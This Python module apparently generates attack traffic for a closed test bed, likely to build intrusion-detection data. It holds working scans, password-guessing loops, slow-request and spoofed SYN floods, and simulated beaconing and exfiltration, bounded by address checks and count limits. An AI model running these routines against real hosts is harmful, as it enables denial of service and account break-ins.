"""Attacks by ordinary means, each bounded in count and time, and only at addresses of the test bed.

Each function is one action of a schedule. Infected clients, which also do ordinary work, connect with `Host.connect`.
It writes each connection to the journal. All traffic of the other attackers' hosts belongs to the attack of their slot.
"""

import base64
import ftplib
import http.client
import ipaddress
import os
import random
import socket
import struct
import subprocess
import threading
import time

from clients import TLS, Mqtt, dns_query, ssh_passwords

MAX_CONNECTIONS = 1_000
MAX_PACKETS = 1_500


def check_target(plan, address):
    """Refuses every address that is not a host of this bed."""
    if not any(
        ipaddress.ip_address(address) in ipaddress.ip_network(plan[side]["network"]) for side in ("inside", "outside")
    ):
        raise ValueError(f"{address} is no address of the test bed")


def _nmap(host, targets, seconds, *options):
    for target in targets:
        check_target(host.plan, target)
    subprocess.run(
        ["timeout", "-k", "1", str(int(seconds)), "nmap", "-n", "-Pn", *options, *targets], stdout=subprocess.DEVNULL
    )


def syn_scan(host, draw, targets, top_ports, rate, seconds):
    _nmap(host, targets, seconds, "-sS", "--top-ports", str(top_ports), "--max-rate", str(rate), "--max-retries", "1")


def connect_scan(host, draw, targets, top_ports, rate, seconds):
    _nmap(host, targets, seconds, "-sT", "--top-ports", str(top_ports), "--max-rate", str(rate), "--max-retries", "1")


def udp_scan(host, draw, targets, top_ports, rate, seconds):
    _nmap(host, targets, seconds, "-sU", "--top-ports", str(top_ports), "--max-rate", str(rate), "--max-retries", "1")


def version_scan(host, draw, targets, ports, intensity, seconds):
    _nmap(
        host,
        targets,
        seconds,
        "-sV",
        "-p",
        ",".join(map(str, ports)),
        "--version-intensity",
        str(intensity),
        "--max-rate",
        "50",
    )


def slow_scan(host, draw, targets, top_ports, delay, seconds):
    _nmap(
        host, targets, seconds, "-sS", "--top-ports", str(top_ports), "--scan-delay", f"{delay}s", "--max-retries", "0"
    )


# Password guesses


def _guess(host, draw, server, users, attempts, each, parallel, gap, seconds, connection):
    """Shares the attempts among threads. `connection` takes up to `each` names and passwords."""
    check_target(host.plan, server[0])
    deadline = time.monotonic() + seconds
    guesses = [(draw.choice(users), f"guess{number}") for number in range(min(attempts, MAX_CONNECTIONS))]
    groups = [guesses[number : number + each] for number in range(0, len(guesses), each)]

    def work(mine, gaps):
        for group in mine:
            if time.monotonic() > deadline:
                break
            try:
                connection(group)
            except (OSError, EOFError, ftplib.Error, subprocess.SubprocessError):
                pass
            time.sleep(gaps.uniform(0.5, 1.5) * gap)

    threads = [
        threading.Thread(target=work, args=(groups[number::parallel], random.Random(draw.random())), daemon=True)
        for number in range(parallel)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(max(0.0, deadline - time.monotonic()))


def ssh_guess(host, draw, server, **how):
    def connection(group):
        ssh_passwords(server[0], group[0][0], [password for _, password in group])

    _guess(host, draw, server, connection=connection, **how)


def ftp_guess(host, draw, server, **how):
    def connection(group):
        with ftplib.FTP() as session:
            session.connect(*server, timeout=10)
            for user, password in group:
                try:
                    session.login(user, password)
                except ftplib.error_perm:
                    pass

    _guess(host, draw, server, connection=connection, **how)


def http_guess(host, draw, server, form, **how):
    def connection(group):
        with _stream(server) as sock:
            for user, password in group:
                if form:
                    body = f"name={user}&password={password}"
                    request = f"POST /login HTTP/1.1\r\nHost: web\r\nContent-Length: {len(body)}\r\n\r\n{body}"
                else:
                    token = base64.b64encode(f"{user}:{password}".encode()).decode()
                    request = f"GET /admin/ HTTP/1.1\r\nHost: web\r\nAuthorization: Basic {token}\r\n\r\n"
                sock.sendall(request.encode())
                sock.recv(8192)

    _guess(host, draw, server, connection=connection, **how)


def mqtt_guess(host, draw, server, **how):
    def connection(group):
        for user, password in group:
            with _stream(server) as sock:
                Mqtt(sock).connect("sensor", user, password)

    _guess(host, draw, server, connection=connection, **how)


def _stream(server):
    sock = socket.create_connection(tuple(server), 10)
    return TLS.wrap_socket(sock) if server[1] == 443 else sock


# Denial of service, at rates that no server notices


def slow_requests(host, draw, server, connections, gap, mode, seconds):
    """Holds connections open: header by header, byte by byte of a body, or by hardly reading the answer."""
    check_target(host.plan, server[0])
    deadline, held = time.monotonic() + seconds, []
    for _ in range(min(connections, MAX_CONNECTIONS)):
        sock = socket.socket()
        sock.settimeout(5)
        if mode == "read":
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1024)
        try:
            sock.connect(tuple(server))
            sock.sendall(
                {
                    "headers": b"GET / HTTP/1.1\r\nHost: web\r\n",
                    "body": b"POST /login HTTP/1.1\r\nHost: web\r\nContent-Length: 100000\r\n\r\n",
                    "read": b"GET /large HTTP/1.1\r\nHost: web\r\n\r\n",
                }[mode]
            )
        except OSError:
            continue
        held.append(sock)
        time.sleep(draw.uniform(0, 0.2))
    while time.monotonic() < deadline and held:
        time.sleep(draw.uniform(0.7, 1.3) * gap)
        for sock in list(held):
            try:
                if mode == "read":
                    sock.recv(200)
                else:
                    sock.sendall(b"X-a: b\r\n" if mode == "headers" else b"a")
            except OSError:
                held.remove(sock)
    for sock in held:
        sock.close()


def syn_flood(host, draw, server, rate, seconds, spoofed):
    """Opens connections halfway, from random ports of this host or of unused addresses of the bed."""
    for address in (server[0], *spoofed):
        check_target(host.plan, address)
    deadline = time.monotonic() + seconds
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        for _ in range(min(int(rate * seconds), MAX_PACKETS)):
            if time.monotonic() > deadline:
                break
            source = draw.choice(spoofed) if spoofed else host.address
            sock.sendto(_syn(source, draw.randrange(1024, 65536), server, draw.getrandbits(32)), (server[0], 0))
            time.sleep(draw.uniform(0.5, 1.5) / rate)


def _syn(source, port, server, sequence):
    addresses = socket.inet_aton(source) + socket.inet_aton(server[0])
    tcp = struct.pack(">HHIIBBHHH", port, server[1], sequence, 0, 5 << 4, 2, 64240, 0, 0)
    total = sum(struct.unpack(">16H", addresses + struct.pack(">HH", 6, len(tcp)) + tcp))
    total = (total & 0xFFFF) + (total >> 16)
    total = ~(total + (total >> 16)) & 0xFFFF
    ip = struct.pack(">BBHHHBBH", 0x45, 0, 40, 0, 0x4000, 64, 6, 0) + addresses
    return ip + tcp[:16] + struct.pack(">H", total) + tcp[18:]


def connection_flood(host, draw, server, rate, seconds, hold, request):
    """Opens complete connections faster than a person would and holds each for some seconds."""
    check_target(host.plan, server[0])
    deadline, held = time.monotonic() + seconds, []
    for _ in range(min(int(rate * seconds), MAX_CONNECTIONS)):
        now = time.monotonic()
        while held and (held[0][0] < now or len(held) > 300):
            _close(held.pop(0)[1])
        if now > deadline:
            break
        try:
            sock = socket.create_connection(tuple(server), 3)
            if request:
                sock.sendall(b"GET / HTTP/1.1\r\nHost: web\r\n\r\n")
            held.append((now + hold, sock))
        except OSError:
            pass
        time.sleep(draw.uniform(0.5, 1.5) / rate)
    for _, sock in held:
        _close(sock)


def _close(sock):
    """Reads what has come, so that the connection ends with FIN, not with RST."""
    sock.setblocking(False)
    try:
        while sock.recv(65536):
            pass
    except OSError:
        pass
    sock.close()


# Infected clients


def _answer(sock, method, keep):
    """Reads the whole answer, and the server's end of the connection unless it stays."""
    answer = http.client.HTTPResponse(sock, method=method)
    answer.begin()
    answer.read()
    if not keep:
        sock.recv(1)


def _request(sock, path, body, keep):
    kind = "POST" if body else "GET"
    headers = f"Host: cdn\r\nConnection: {'keep-alive' if keep else 'close'}\r\n"
    if body:
        headers += f"Content-Length: {len(body)}\r\n"
    sock.sendall(f"{kind} {path} HTTP/1.1\r\n{headers}\r\n".encode() + body)
    _answer(sock, kind, keep)


def command_and_control(host, draw, server, name, resolver, tls, post, stays, period, jitter, size, seconds):
    """Malware that calls home at a jittered interval, over one connection or one for each call."""
    kind, deadline, sock, calls = "command-and-control", time.monotonic() + seconds, None, 0
    while time.monotonic() < deadline:
        try:
            if name and (calls == 0 or draw.random() < 0.2):
                with host.connect(kind, [resolver, 53], 3, "udp") as asking:
                    asking.send(dns_query(name, draw.getrandbits(16)))
                    asking.recv(512)
            if sock is None:
                sock = host.connect(kind, [server, 443 if tls else 80])
                sock = TLS.wrap_socket(sock) if tls else sock
            body = os.urandom(draw.randint(size // 2, size)) if post else b""
            _request(sock, "/login" if post else draw.choice(("/api", "/api", "/r/4")), body, stays)
        except (OSError, http.client.HTTPException):
            sock = sock and sock.close()
        calls += 1
        if sock and not stays:
            sock = sock.close()
        if not host.pause(draw.uniform(1 - jitter, 1 + jitter) * period):
            break


def lateral_contacts(host, draw, targets, ports, gap, seconds):
    """Looks for other machines of its own network that offer a service."""
    deadline = time.monotonic() + seconds
    pairs = [(target, port) for target in targets for port in ports]
    draw.shuffle(pairs)
    for target, port in pairs:
        if time.monotonic() > deadline:
            break
        try:
            with host.connect("lateral-contacts", [target, port], 3) as sock:
                sock.settimeout(2)
                if port == 80:
                    sock.sendall(b"GET / HTTP/1.0\r\n\r\n")
                sock.recv(500)
        except OSError:
            pass
        host.pause(draw.uniform(0.5, 1.5) * gap)


def exfiltration(host, draw, server, tls, total, chunk, gap, seconds):
    """Uploads what it found, at once or in pieces."""
    deadline, sent = time.monotonic() + seconds, 0
    while sent < total and time.monotonic() < deadline:
        body = os.urandom(min(chunk, total - sent))
        try:
            with host.connect("exfiltration", [server, 443 if tls else 80], 20) as sock:
                with TLS.wrap_socket(sock) if tls else sock as stream:
                    head = f"PUT /up/{draw.randrange(10**6)} HTTP/1.1\r\nHost: cdn\r\nConnection: close\r\n"
                    stream.sendall(f"{head}Content-Length: {len(body)}\r\n\r\n".encode() + body)
                    _answer(stream, "PUT", False)
        except (OSError, http.client.HTTPException):
            pass
        sent += len(body)
        if not host.pause(draw.uniform(0.5, 1.5) * gap):
            break
